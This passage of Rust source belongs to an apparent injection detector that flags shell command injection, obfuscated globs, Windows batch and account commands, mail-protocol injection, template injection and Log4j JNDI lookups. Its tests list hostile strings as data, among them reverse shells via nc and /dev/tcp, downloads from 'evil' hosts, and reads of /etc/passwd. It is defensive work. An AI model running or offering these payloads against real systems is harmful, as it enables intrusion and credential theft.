                    | b'%'
                    | b'\\'
            )
        }) || memchr::memchr(b'/', arg)
            .is_some_and(|p| p < 32 && !arg[..p].contains(&b' '))
            || self.chained_command(arg)
            || looks_like_host(arg)
            // A Windows drive or share path: `c:\`, `\\host\share`.
            || arg.len() >= 3
                && arg[0].is_ascii_alphabetic()
                && arg[1] == b':'
                && matches!(arg[2], b'\\' | b'/');
        // `net user x /add`, `net localgroup administrators`: the Windows account and share
        // tool with its subcommand.
        // `reg query HKLM\...`, `reg save hklm\sam x`: the registry tool on a hive.
        if word == b"reg" && spaced {
            let sub = arg
                .iter()
                .position(|c| !c.is_ascii_alphabetic())
                .map_or(arg, |e| &arg[..e]);
            if matches!(
                sub,
                b"query" | b"add" | b"delete" | b"save" | b"export" | b"import" | b"load" | b"copy"
            ) && arg[sub.len()..].trim_ascii_start().starts_with(b"hk")
            {
                return Some(true);
            }
        }
        if matches!(word, b"net" | b"net1") && spaced {
            const SUB: &[&[u8]] = &[
                b"user",
                b"localgroup",
                b"group",
                b"share",
                b"use",
                b"view",
                b"session",
                b"accounts",
                b"start",
                b"stop",
            ];
            let sub = arg
                .iter()
                .position(|c| !c.is_ascii_alphabetic())
                .map_or(arg, |e| &arg[..e]);
            let after = &arg[sub.len()..];
            // English subcommands (`user`, `use`, `view`...) need a `/switch` or the value's end
            // after a separator; the others (`localgroup`, `share`) are never prose.
            let prose_word = !matches!(sub, b"localgroup" | b"share" | b"session" | b"accounts");
            let tail = after.trim_ascii();
            if SUB.contains(&sub)
                && (after.is_empty() || after[0].is_ascii_whitespace())
                && (!prose_word
                    || memchr::memchr(b'/', tail).is_some()
                    || after_sep && tail.is_empty())
            {
                return Some(true);
            }
        }
        if after_sep {
            if arg.is_empty() {
                // `;id`, `|ls`: a bare command ends the value. Everyday words (`; more`,
                // `& red`) do not count bare.
                const BARE: &[&[u8]] = &[
                    b"id", b"ls", b"ps", b"w", b"who", b"env", b"pwd", b"df", b"du", b"dir",
                    b"ver", b"sh", b"su", b"vi",
                ];
                return (!weak || BARE.contains(&word)).then_some(false);
            }
            if !spaced
                && !rest.is_empty()
                && !matches!(
                    rest[0],
                    b';' | b'|' | b'&' | b'<' | b'>' | b'}' | b')' | b','
                )
            {
                return None;
            }
            if !weak || shell_arg {
                return Some(false);
            }
            // `;cat passwd`: a weak word followed by one plain word and nothing else.
            return None;
        }
        if spaced && shell_arg && !weak {
            return Some(true);
        }
        None
    }

    /// `$name arg` (or `${name} arg`) where a command belongs: a command hidden in a variable
    /// (`a=nc;$a -lvp 9`, `;$x cat y`). The variable is assigned earlier in the value, or its
    /// argument looks like a shell's (an option, a path, another variable, a command).
    fn variable_command(&self, whole: &[u8], rest: &[u8]) -> bool {
        let Some(v) = rest.strip_prefix(b"$") else {
            return false;
        };
        let v = v.strip_prefix(b"{").unwrap_or(v);
        // `$0` is the running shell: `;$0 -c id`.
        if v.first() == Some(&b'0') && v[1..].starts_with(b" -c ") {
            return true;
        }
        let n = v.iter().take_while(|&&c| is_word(c)).count();
        if n == 0 || n > 16 || !v[0].is_ascii_alphabetic() {
            return false;
        }
        let after = v[n..].strip_prefix(b"}").unwrap_or(&v[n..]);
        if !after.first().is_some_and(|c| *c == b' ' || *c == b'\t') {
            return false;
        }
        let arg = after.trim_ascii_start();
        let word = arg
            .iter()
            .position(|&c| !is_word(c))
            .map_or(arg, |e| &arg[..e]);
        let mut assigned = v[..n].to_vec();
        assigned.push(b'=');
        arg.first().is_some_and(|c| matches!(c, b'-' | b'/' | b'$'))
            || (!word.is_empty() && self.command_name(word).is_some())
            || (!arg.is_empty() && crate::find(whole, &assigned).is_some())
    }

    /// After a separator that opens the value (`;top -b`, `|ls docs`): nothing came before it,
    /// so no sentence is being continued; a value appended to a command line starts this way.
    /// Any listed command with a word after it counts, everyday words included.
    fn leading_command(&self, rest: &[u8]) -> bool {
        let end = rest
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
            .unwrap_or(rest.len());
        end > 0
            && rest.get(end).is_some_and(|c| *c == b' ' || *c == b'\t')
            && rest[end..]
                .trim_ascii_start()
                .first()
                .is_some_and(|c| !c.is_ascii_whitespace())
            && self.command_name(&rest[..end]).is_some()
    }

    /// Whether `arg` (what follows a command) chains another command after its first
    /// separator: `x; id`, `x | sh`, `x && uname -a`. A list of phrases (`nc state; sc state`,
    /// `sleep aid; sleep 8h`) chains words, not commands.
    fn chained_command(&self, arg: &[u8]) -> bool {
        let Some(p) = memchr::memchr3(b';', b'|', b'&', arg) else {
            return false;
        };
        let rest = arg[p + 1..].trim_ascii_start();
        let rest = rest
            .strip_prefix(b"|")
            .or_else(|| rest.strip_prefix(b"&"))
            .unwrap_or(rest)
            .trim_ascii_start();
        let end = rest
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
            .unwrap_or(rest.len());
        if end == 0 {
            // `x;` `x|` at the end, or `x;/bin/sh`, `x|$y`: a path or substitution follows.
            return rest.is_empty() || matches!(rest[0], b'/' | b'$' | b'`' | b'(' | b'{');
        }
        let Some(name) = self.command_name(&rest[..end]) else {
            return false;
        };
        let after = rest[end..].trim_ascii_start();
        !self.weak.contains(name)
            || after.is_empty()
            || matches!(
                after[0],
                b'-' | b'/' | b'$' | b'|' | b';' | b'&' | b'>' | b'<'
            )
    }

    /// The command a word names: itself, without a version (`python3.10`, `php7`), or the part
    /// before a dash (`ansible-config`); a glob (`ca?`) that matches one.
    fn command_name<'a>(&self, word: &'a [u8]) -> Option<&'a [u8]> {
        if self.commands.contains(word) {
            return Some(word);
        }
        let bare = {
            let mut e = word.len();
            while e > 0 && (word[e - 1].is_ascii_digit() || word[e - 1] == b'.') {
                e -= 1;
            }
            &word[..e]
        };
        if bare.len() >= 2
            && bare.len() < word.len()
            && self.commands.contains(bare)
            && !self.weak.contains(bare)
        {
            return Some(bare);
        }
        // `python3.10`: a versioned name whose major-version form is a command.
        if let Some(dot) = word.iter().position(|&c| c == b'.') {
            let head = &word[..dot];
            if word[dot..].iter().all(|c| c.is_ascii_digit() || *c == b'.')
                && self.commands.contains(head)
                && !self.weak.contains(head)
            {
                return Some(head);
            }
        }
        if let Some(d) = word.iter().position(|&c| c == b'-') {
            let head = &word[..d];
            if head.len() >= 3 && self.commands.contains(head) && !self.weak.contains(head) {
                return Some(head);
            }
        }
        if glob_matches_command(word) {
            return Some(word);
        }
        None
    }

    /// A value that is a command line of a tool no prose names (`visudo`, `nmap -sS x`,
    /// `ansible all -m ping`): the command alone or followed by a blank.
    fn technical_command(&self, s: &[u8]) -> bool {
        let end = s
            .iter()
            .position(|&c| !(c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.')))
            .unwrap_or(s.len());
        if end < 2 {
            return false;
        }
        let rest = &s[end..];
        if !rest.is_empty() && !rest[0].is_ascii_whitespace() {
            return false;
        }
        // A tool's name followed by plain words is a name or a search (`John Smith`, `nmap
        // tutorial`, `kubectl cheat sheet`, `python3 crash course`); a command line has an
        // option, a path, a host, a variable or shell punctuation among its arguments, or the
        // name is one no prose writes (`ansible-vault`, `python3.10`), or nothing but blanks
        // follows it.
        let typed = &s[..end];
        let technical_name = typed.iter().any(|c| matches!(c, b'-' | b'_' | b'.'));
        let shell_args =
            technical_name || rest.trim_ascii().is_empty() || self.shell_like_args(rest);
        shell_args
            && self
                .command_name(&s[..end])
                .is_some_and(|name| !self.weak.contains(name))
    }

    /// Arguments as a command line has them: an option, a path, a variable, a redirection, a
    /// glob, a host, or another command chained after a separator.
    fn shell_like_args(&self, rest: &[u8]) -> bool {
        rest.split(|c| c.is_ascii_whitespace())
            .filter(|w| !w.is_empty())
            .take(8)
            .any(|w| {
                matches!(w[0], b'-' | b'/' | b'$' | b'~' | b'.' | b'\\')
                    || w.iter()
                        .any(|c| matches!(c, b'<' | b'>' | b'=' | b'*' | b'`'))
                    || looks_like_host(w)
            })
            || self.chained_command(rest)
    }

    /// `time sh -c id`, `nohup who`, `strace id`: a command runner followed by a command.
    fn prefixed_command(&self, s: &[u8]) -> bool {
        const RUNNERS: &[&[u8]] = &[
            b"time",
            b"nohup",
            b"strace",
            b"ltrace",
            b"nice",
            b"sudo",
            b"doas",
            b"env",
            b"timeout",
            b"xargs",
            b"exec",
            b"command",
            b"builtin",
            b"stdbuf",
            b"chroot",
            b"busybox",
            b"watch",
            b"unbuffer",
            b"setsid",
            b"taskset",
            b"ionice",
            b"su",
        ];
        let end = s
            .iter()
            .position(|c| !c.is_ascii_alphanumeric())
            .unwrap_or(s.len());
        if end == 0 || !RUNNERS.contains(&&s[..end]) {
            return false;
        }
        let rest = &s[end..];
        let arg = rest.trim_ascii_start();
        if arg.len() == rest.len() {
            return false;
        }
        let arg = arg.strip_prefix(b"-").map_or(arg, |a| {
            // Skip one option (`timeout -s 9`, `nice -n 5`).
            let e = a.iter().position(|&c| c == b' ').unwrap_or(a.len());
            a[e..].trim_ascii_start()
        });
        let w = arg
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || *c == b'_' || *c == b'-' || *c == b'.'))
            .unwrap_or(arg.len());
        // `sudo make me a sandwich` is a mug: the inner command needs nothing, or arguments
        // that look like a command line's.
        w > 0
            && (arg.starts_with(b"/")
                || STRONG_COMMANDS.iter().any(|c| c.as_bytes() == &arg[..w])
                    && (arg[w..].trim_ascii().is_empty() || self.shell_like_args(&arg[w..])))
    }
}

/// Windows batch control flow: `for [/d|/r|/l|/f ...] %x in (...) do ...` and
/// `if [/i] [not] exist|defined|errorlevel ...` or `if a==b cmd`.
fn batch(t: &[u8]) -> Option<&'static str> {
    let words = |s: &[u8]| -> bool {
        s.first().is_some_and(|c| {
            c.is_ascii_whitespace()
                || *c == b'/'
                || *c == b'('
                || *c == b'"'
                || *c == b'['
                || *c == b'%'
        })
    };
    let mut from = 0;
    // Look at the first 64 `for`/`if` candidates at most: a value of `if if if ...` must not
    // cost a scan per word.
    let mut budget = 64;
    while from < t.len() && budget > 0 {
        budget -= 1;
        let seg = &t[from..];
        let at_boundary = from == 0 || !is_word(t[from - 1]);
        if at_boundary && seg.starts_with(b"for") && words(&seg[3..]) {
            // `%x in (` ... `) do`
            let body = &seg[3..seg.len().min(400)];
            if let Some(p) = memchr::memchr(b'%', body) {
                let after = &body[p..];
                if let Some(q) = crate::find(after, b" in ") {
                    let tail = &after[q + 4..];
                    if tail.trim_ascii_start().starts_with(b"(") {
                        if let Some(c) = memchr::memchr(b')', tail) {
                            if tail[c + 1..].trim_ascii_start().starts_with(b"do") {
                                return Some("rce-windows-batch");
                            }
                        }
                    }
                }
            }
        }
        if at_boundary && seg.starts_with(b"if") && words(&seg[2..]) {
            let mut r = seg[2..].trim_ascii_start();
            for opt in [&b"/i"[..], b"not"] {
                if let Some(x) = r.strip_prefix(opt) {
                    if x.first().is_none_or(|c| !is_word(*c)) {
                        r = x.trim_ascii_start();
                    }
                }
            }
            for kw in [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"] {
                if r.starts_with(kw) && r.get(kw.len()).is_some_and(|c| c.is_ascii_whitespace()) {
                    return Some("rce-windows-batch");
                }
            }
            // A comparison between two operands, then a command: `if %a%==b echo`, `if "x" equ "y"`.
            let head = &r[..r.len().min(80)];
            if crate::find(head, b"==").is_some() {
                return Some("rce-windows-batch");
            }
            for op in [
                &b" equ "[..],
                b" neq ",
                b" lss ",
                b" leq ",
                b" gtr ",
                b" geq ",
            ] {
                if crate::find(head, op).is_some() {
                    return Some("rce-windows-batch");
                }
            }
        }
        from += 1;
        match memchr::memchr2(b'f', b'i', &t[from..]) {
            Some(p) => from += p,
            None => break,
        }
    }
    None
}

/// Mail protocol injection: a line break in a value followed by an SMTP, IMAP or POP3 command.
fn mail_protocol(t: &[u8]) -> Option<&'static str> {
    const SMTP: &[&[u8]] = &[
        b"mail from:",
        b"rcpt to:",
        b"ehlo ",
        b"helo ",
        b"data\r",
        b"data\n",
        b"auth login",
        b"auth plain",
        b"starttls",
        b"vrfy ",
        b"expn ",
    ];
    const IMAP: &[&[u8]] = &[
        b"login",
        b"authenticate",
        b"select",
        b"examine",
        b"status",
        b"append",
        b"store",
        b"fetch",
        b"uid",
        b"capability",
        b"lsub",
        b"expunge",
        b"logout",
        b"noop",
        b"create",
        b"delete",
        b"rename",
        b"subscribe",
        b"list",
    ];
    const POP3: &[&[u8]] = &[b"retr ", b"dele ", b"stat\r", b"uidl", b"apop ", b"quit\r"];
    let mut from = 0;
    while let Some(p) = memchr::memchr(b'\n', &t[from..]) {
        let line = &t[from + p + 1..];
        from += p + 1;
        let blanks = line
            .iter()
            .take(16)
            .take_while(|&&c| c == b' ' || c == b'\t')
            .count();
        let line = &line[blanks..];
        if SMTP.iter().any(|c| line.starts_with(c)) || POP3.iter().any(|c| line.starts_with(c)) {
            return Some("rce-mail-injection");
        }
        // IMAP: a short tag, a blank, a command.
        let tag = line
            .iter()
            .take_while(|c| c.is_ascii_alphanumeric())
            .count();
        // IMAP tags carry a digit (`a001`); prose lines starting with a word do not.
        let tagged = line[..tag].iter().any(|c| c.is_ascii_digit());
        if (1..=8).contains(&tag) && tagged && line.get(tag) == Some(&b' ') {
            let cmd = &line[tag + 1..];
            if let Some(c) = IMAP.iter().find(|c| cmd.starts_with(c)) {
                if cmd
                    .get(c.len())
                    .is_none_or(|&x| x == b' ' || x == b'\r' || x == b'\n')
                {
                    return Some("rce-mail-injection");
                }
            }
        }
    }
    None
}

/// Whether the first word of `arg` is a URL, a host name or an address (`curl evil.com`).
fn looks_like_host(arg: &[u8]) -> bool {
    let w = &arg[..arg
        .iter()
        .position(|c| c.is_ascii_whitespace())
        .unwrap_or(arg.len())];
    if crate::find(w, b"://").is_some() {
        return true;
    }
    let labels = w.split(|&c| c == b'.' || c == b':').collect::<Vec<_>>();
    // An IPv4 address (`10.0.0.1`: its last label may be one digit).
    if labels.len() == 4
        && labels
            .iter()
            .all(|l| (1..=3).contains(&l.len()) && l.iter().all(u8::is_ascii_digit))
    {
        return true;
    }
    labels.len() >= 2
        && labels
            .iter()
            .all(|l| !l.is_empty() && l.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'-'))
        && labels.last().is_some_and(|l| {
            l.len() >= 2
                && (l.iter().all(|c| c.is_ascii_alphabetic())
                    || l.iter().all(|c| c.is_ascii_digit()))
        })
}

/// Server-side template and expression-language injection, which runs code on the server:
/// a Log4j lookup reaching JNDI (`${jndi:ldap://..}`, also spelled with nested lookups
/// `${${lower:j}ndi:` or `${::-j}`), and template expressions (`{{...}}`, `${...}`, `#{...}`,
/// `<%= ... %>`, `{% ... %}`, FreeMarker's `<#assign`, Velocity's `#set(`) holding an arithmetic
/// probe (`{{7*7}}`) or reaching for the runtime (`__class__`, `__globals__`, `getRuntime()`,
/// `popen(`, `child_process`, `forName(`).
fn template_injection(s: &[u8], cs: crate::chars::Chars) -> Option<&'static str> {
    use crate::chars::*;
    let f = crate::find;
    if cs.any(DOLLAR) && f(s, b"${").is_some() {
        // Log4j resolves nested lookups first: `${lower:j}` is `j`, `${::-j}` is `j`.
        if f(s, b"${::-").is_some() || jndi_after_lookups(s) {
            return Some("rce-jndi-lookup");
        }
    }
    const OPENERS: &[(&[u8], &[u8])] = &[
        (b"{{", b"}}"),
        (b"${", b"}"),
        (b"#{", b"}"),
        (b"<%", b"%>"),
        (b"{%", b"%}"),
        (b"<#", b">"),
        (b"#set(", b")"),
    ];
    for (open, close) in OPENERS {
        let mut from = 0;
        while let Some(p) = f(&s[from..], open) {
            let start = from + p + open.len();
            let window = &s[start..s.len().min(start + 256)];
            let body = f(window, close).map_or(window, |e| &window[..e]);
            // Each byte is in one body per kind of delimiter: `{{{{...` stays linear.
            from = (start + body.len().max(1)).min(s.len());
            let body = body.strip_prefix(b"=").unwrap_or(body).trim_ascii();
            if arithmetic_probe(body) || reaches_runtime(body) {
                return Some("rce-template-injection");
            }
        }
    }
    None
}

/// Reaching the runtime by reflection, with or without template delimiters (OGNL, SpEL, EL
/// and Jinja payloads come in many wrappers): `java.lang.Runtime`, `Class.forName(`,
/// `.__class__.__mro__`, `.__globals__`.
fn runtime_reflection(s: &[u8]) -> bool {
    const MARKERS: &[&[u8]] = &[
        b"java.lang.runtime",
        b"java.lang.processbuilder",
        b"getruntime().exec(",
        b"class.forname(",
        b".__class__",
        b".__globals__",
        b".__builtins__",
        b".__subclasses__(",
        b".__mro__",
        b".__init__.__globals__",
    ];
    // Every marker holds `java.lang.`, `forname(`, `getruntime(` or `.__`: one look for each
    // first.
    let f = crate::find;
    (f(s, b"java.lang.").is_some()
        || f(s, b"forname(").is_some()
        || f(s, b"getruntime(").is_some()
        || f(s, b"__").is_some())
        && MARKERS.iter().any(|m| f(s, m).is_some())
}

/// `7*7`, `1337 * 1337`: a template engine that answers 49 has been found.
fn arithmetic_probe(body: &[u8]) -> bool {
    let Some(star) = memchr::memchr(b'*', body) else {
        return false;
    };
    let (a, b) = (body[..star].trim_ascii(), body[star + 1..].trim_ascii());
    !a.is_empty()
        && !b.is_empty()
        && a.len() <= 6
        && b.len() <= 6
        && a.iter().chain(b).all(u8::is_ascii_digit)
}

fn reaches_runtime(body: &[u8]) -> bool {
    const MARKERS: &[&[u8]] = &[
        b"__class__",
        b"__globals__",
        b"__builtins__",
        b"__subclasses__",
        b"__import__",
        b"__mro__",
        b"__init__",
        b"getruntime(",
        b"java.lang.",
        b"processbuilder",
        b"popen(",
        b"child_process",
        b"forname(",
        b"freemarker.template",
        b"os.system",
        b"subprocess",
        b"mainmodule",
        b"config.items(",
        b"request.application",
        b"self._templatereference",
        b"lipsum.__",
        b"cycler.__",
    ];
    body.len() >= 6 && MARKERS.iter().any(|m| crate::find(body, m).is_some())
}

/// `${jndi:` once Log4j's `${lower:x}`/`${upper:x}`/`${env:NAME:-x}`/`${date:'x'}` lookups that
/// spell its letters are resolved.
fn jndi_after_lookups(s: &[u8]) -> bool {
    if crate::find(s, b"${jndi:").is_some() {
        return true;
    }
    if crate::find(s, b"${${").is_none() && crate::find(s, b"${j${").is_none() {
        return false;
    }
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        if s[i..].starts_with(b"${") {
            if let Some(e) = s[i + 2..s.len().min(i + 40)]
                .iter()
                .position(|&c| c == b'}')
            {
                let inner = &s[i + 2..i + 2 + e];
                // The lookup's value: after `:-` (a default) or after the first `:`. An outer
                // lookup (`${${lower:j}ndi:...}`) stays; its inner ones resolve.
                let value = match crate::find(inner, b":-").filter(|_| !inner.contains(&b'$')) {
                    Some(d) => Some(&inner[d + 2..]),
                    None => inner
                        .iter()
                        .position(|&c| c == b':')
                        .filter(|_| !inner.contains(&b'$') && !inner.starts_with(b"jndi"))
                        .map(|c| &inner[c + 1..]),
                };
                if let Some(v) = value {
                    out.extend(v.iter().filter(|&&c| c != b'\''));
                    i += 2 + e + 1;
                    continue;
                }
            }
        }
        out.push(s[i]);
        i += 1;
    }
    crate::find(&out, b"${jndi:").is_some()
}

/// A time-delay probe after a separator: `;sleep 5`, `| timeout 9 ;`. Glued to its separator or
/// closed by another one; prose ends with `; sleep 8` too.
fn delay_probe(rest: &[u8], glued: bool) -> bool {
    let Some(arg) = rest
        .strip_prefix(b"sleep")
        .or_else(|| rest.strip_prefix(b"timeout"))
    else {
        return false;
    };
    if !arg.first().is_some_and(|c| *c == b' ' || *c == b'\t') {
        return false;
    }
    let arg = arg.trim_ascii_start();
    let n = arg.iter().take_while(|c| c.is_ascii_digit()).count();
    let tail = arg[n..].trim_ascii_start();
    let closed = tail
        .first()
        .is_some_and(|c| matches!(c, b';' | b'|' | b'&' | b'#' | b'`' | b')'));
    n > 0 && n < 4 && (closed || tail.is_empty() && glued)
}

/// A shell or interpreter followed by its run-this-code flag and the code.
fn inline_code_flag(word: &[u8], arg: &[u8]) -> bool {
    let flag: &[u8] = match word {
        b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"ash" | b"csh" | b"tcsh" | b"fish"
        | b"busybox" | b"python" | b"python2" | b"python3" => b"-c",
        b"perl" | b"ruby" | b"node" | b"nodejs" | b"lua" => b"-e",
        b"php" => b"-r",
        _ => return false,
    };
    arg.strip_prefix(flag).is_some_and(|r| {
        r.first().is_some_and(|c| *c == b' ' || *c == b'\t')
            && r.trim_ascii_start()
                .first()
                .is_some_and(|c| !c.is_ascii_whitespace())
    })
}

/// `/???/c?t`, `/u*/b*/wh?ami`: an absolute path with wildcards whose last part is (or matches) a
/// strong command, and whose directories are short wildcard patterns or the usual binary folders.
fn glob_path_is_binary(p: &[u8]) -> bool {
    if p.first() != Some(&b'/') || !p.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) {
        return false;
    }
    // At most three folders (`/usr/local/bin`), each a binary folder's name or a short
    // wildcard pattern that matches one.
    let mut last = None;
    let mut folders = 0;
    for part in p[1..].split(|&c| c == b'/').filter(|x| !x.is_empty()) {
        if let Some(dir) = last.replace(part) {
            folders += 1;
            let known = [&b"bin"[..], b"sbin", b"usr", b"local"].contains(&dir);
            if folders > 3
                || !(known
                    || dir.len() <= 5
                        && glob_matches_any(dir, &[b"bin", b"sbin", b"usr", b"local"]))
            {
                return false;
            }
        }
    }
    let Some(last) = last else {
        return false;
    };
    folders > 0
        && (STRONG_COMMANDS.iter().any(|c| c.as_bytes() == last) || glob_matches_command(last))
}

/// `/etc/?asswd`, `/e??/sh*ow`: a wildcard path only a shell expands, naming a sensitive file.
fn glob_names_sensitive_file(p: &[u8]) -> bool {
    let Some(rel) = p.strip_prefix(b"/") else {
        return false;
    };
    let wild = rel.iter().filter(|&&c| matches!(c, b'?' | b'*')).count();
    let letters = rel.iter().filter(|c| c.is_ascii_alphabetic()).count();
    wild > 0
        && letters >= 2
        && super::SENSITIVE_FILES
            .iter()
            .any(|f| f.starts_with("etc/") && glob(rel, f.as_bytes()))
}

fn glob_matches_any(p: &[u8], words: &[&[u8]]) -> bool {
    p.iter().any(|&c| matches!(c, b'?' | b'*' | b'[')) && words.iter().any(|w| glob(p, w))
}

const SHELL_VARS: [&[u8]; 6] = [
    b"${ifs",
    b"$ifs",
    b"$shell",
    b"${shell}",
    b"${path:",
    b"$bash_",
];

const BIN_DIRS: [&[u8]; 5] = [
    b"/bin/",
    b"/sbin/",
    b"/usr/bin/",
    b"/usr/sbin/",
    b"/usr/local/bin/",
];

/// `ca?`, `c*t`, `/???/c?t`: a shell glob that could stand for a strong command.
fn glob_matches_command(word: &[u8]) -> bool {
    let wild = word.iter().filter(|&&c| c == b'?' || c == b'*').count();
    if wild == 0 || wild > 3 || word.len() < 2 || word.len() > 12 {
        return false;
    }
    let letters = word.iter().filter(|c| c.is_ascii_alphabetic()).count();
    letters >= 1 && STRONG_COMMANDS.iter().any(|c| glob(word, c.as_bytes()))
}

fn glob(p: &[u8], s: &[u8]) -> bool {
    match (p.first(), s.first()) {
        (None, None) => true,
        (Some(b'*'), _) => glob(&p[1..], s) || (!s.is_empty() && glob(p, &s[1..])),
        (Some(b'?'), Some(_)) => glob(&p[1..], &s[1..]),
        (Some(b'['), Some(_)) => match p.iter().position(|&c| c == b']') {
            Some(e) => p[1..e].contains(&s[0]) && glob(&p[e + 1..], &s[1..]),
            None => false,
        },
        (Some(a), Some(b)) => a == b && glob(&p[1..], &s[1..]),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::super::Rules;

    fn l(s: &str) -> Vec<u8> {
        s.to_ascii_lowercase().into_bytes()
    }

    #[test]
    fn rce() {
        let r = Rules::new();
        let mut t = Vec::new();
        for a in [
            ";cat /etc/passwd",
            "x;id",
            "| whoami",
            "&& wget http://evil/x.sh",
            "$(curl evil.com)",
            "`id`",
            "/bin/sh -c id",
            "www.google.com;/bin/ca? /et*/passwd",
            "() { :;}; /bin/bash -c id",
            ";c\\at /etc/passwd",
            "x;c''at /etc/hosts",
            ";{cat,/etc/passwd}",
            "Invoke-WebRequest http://example.com/x.ps1",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "wget http://evil/x",
        ] {
            assert!(
                r.rce(&l(a), None, crate::chars::summary(&l(a)), &mut t)
                    .is_some(),
                "missed: {a}"
            );
        }
        for b in [
            "Tom & Jerry",
            "Fish & chips; more info",
            "Dog & Cat Food",
            "black; white; red",
            "rock|paper|scissors",
            "Sleep well & time flies",
            "Price: $(5) off",
            "I want to find the best shoes",
            "cat toy",
            "R&D department; head office",
            "Q&A",
        ] {
            assert_eq!(
                r.rce(&l(b), None, crate::chars::summary(&l(b)), &mut t),
                None,
                "false positive: {b}"
            );
        }
    }
}

#[cfg(test)]
mod class_tests {
    use super::super::Rules;

    fn hit(r: &Rules, s: &str) -> Option<&'static str> {
        let l = s.to_ascii_lowercase().into_bytes();
        r.rce(&l, None, crate::chars::summary(&l), &mut Vec::new())
    }

    #[test]
    fn empty_constructs_and_quoted_words_are_undone() {
        let r = Rules::new();
        for a in [
            "q;\"\"u\"\"n\"\"a\"\"m\"\"e -a",
            "k|wh``oami",
            "z;una$()me -a",
            "z;cu<()rl http://h.example/a",
            "v;'nc' -e /bin/sh h 1",
            "r&&\"uname\" -a",
            "x;'who'ami",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "He said 'hello' and \"bye\" to me",
            "We sell 'cat' toys; 'dog' toys",
            "the \"\" empty string",
            "size ``M`` only",
            "Rock 'n' roll",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn interpreters_with_inline_code() {
        let r = Rules::new();
        for a in [
            "zsh -c 'uname -a'",
            "python3 -c \"import os\"",
            "ruby -e 'exit'",
            "php -r 'phpinfo();'",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "Birthday bash -- come along",
            "bash - c",
            "Ruby -eyed",
            "python course",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn variables_in_command_position_and_network_redirects() {
        let r = Rules::new();
        for a in [
            "t=uname;$t -a",
            "x && ${t} -lvp 9",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "cat < /dev/udp/192.0.2.1/53",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "price $5 & $name tag",
            "tea; $ 4.50",
            "a;$b",
            "/dev/ttyS0 settings",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn glob_paths_brace_lists_and_plus_blanks() {
        let r = Rules::new();
        for a in [
            "/u?r/b?n/una?e -a",
            "x;/???/w?oami",
            "{,/b*/u?ame,-a}",
            "{,uname,-a}",
            "h.example;uname+-a",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "The /usr/*/ folder",
            "q=?/?/?",
            "/images/c?t.png",
            "{,a,b}",
            "c++ course",
            "python+django developer",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn obfuscated_words_and_globbed_files() {
        let r = Rules::new();
        for a in [
            "p``ing -c 1 192.0.2.7",
            "k''ill -9 1",
            "ki$()ll -9 1",
            "ping$() -c 1 192.0.2.7",
            "z;$'uname' -a",
            "{,$'uname',-a}",
            "x;tac /e?c/pas?wd",
            "less /???/?h?dow",
            "u$_name -a",
            "\"\"u\"\"n\"\"a\"\"m\"\"e\"\" \"\"-\"\"a\"\"",
            "\"\"p\"\"y\"\"t\"\"h\"\"o\"\"n\"\"3\"\".\"\"1\"\"0\"\" \"\"c\"\"m\"\"d\"\"",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "rock''n''roll",
            "don''t stop",
            "it's $'5' off",
            "/etc/?utm=1",
            "size ? /e?",
            "He''s a killer",
            "ping pong table",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn commands_with_long_options() {
        let r = Rules::new();
        for a in ["env --help", "tar --version", "ruby --disable-gems x.rb"] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "Birthday bash -- come along",
            "cat -- the musical",
            "time --",
            "Ruby red --",
            "Wish list -- 2 items",
            "--version",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn tool_names_before_plain_words_are_prose() {
        let r = Rules::new();
        for a in [
            "nmap -sV 192.0.2.1",
            "john --wordlist=w.txt h",
            "kubectl get pods -A",
            "hping3 192.0.2.9",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "John Smith",
            "john doe",
            "nmap tutorial",
            "kubectl cheat sheet",
            "Medusa and Perseus",
            "vault 7 door",
            "Consul general",
            "Kind regards",
            "tree house",
            "python3 crash course",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn ifs_continuations_delays_and_windows_tools() {
        let r = Rules::new();
        for a in [
            "q;uname${IFS}-a",
            "q;sleep${IFS}9",
            "q|sleep 7",
            "q&&timeout 12;",
            "q;una\\\nme -a",
            "q;$0 -c uname",
            "q & net localgroup administrators",
            "net user eve S3cret /add",
            "q|dir d:\\users",
        ] {
            assert!(hit(&r, a).is_some(), "missed: {a}");
        }
        for b in [
            "Great mattress; sleep 8 hours a night",
            "It's 'sleep' time; sleep 8",
            "cat & dog $(cheap)",
            "quiet; sleep well",
            "Net user guide",
            "net use of funds",
            "Gross & net user count",
            "dir: c:\\temp is full",
            "ifs and buts",
        ] {
            assert_eq!(hit(&r, b), None, "false positive: {b}");
        }
    }

    #[test]
    fn template_and_expression_injection() {
        let r = Rules::new();
        for a in [
            "{{ 6*9 }}",
            "<%= 12 * 12 %>",
            "#{3*3}",
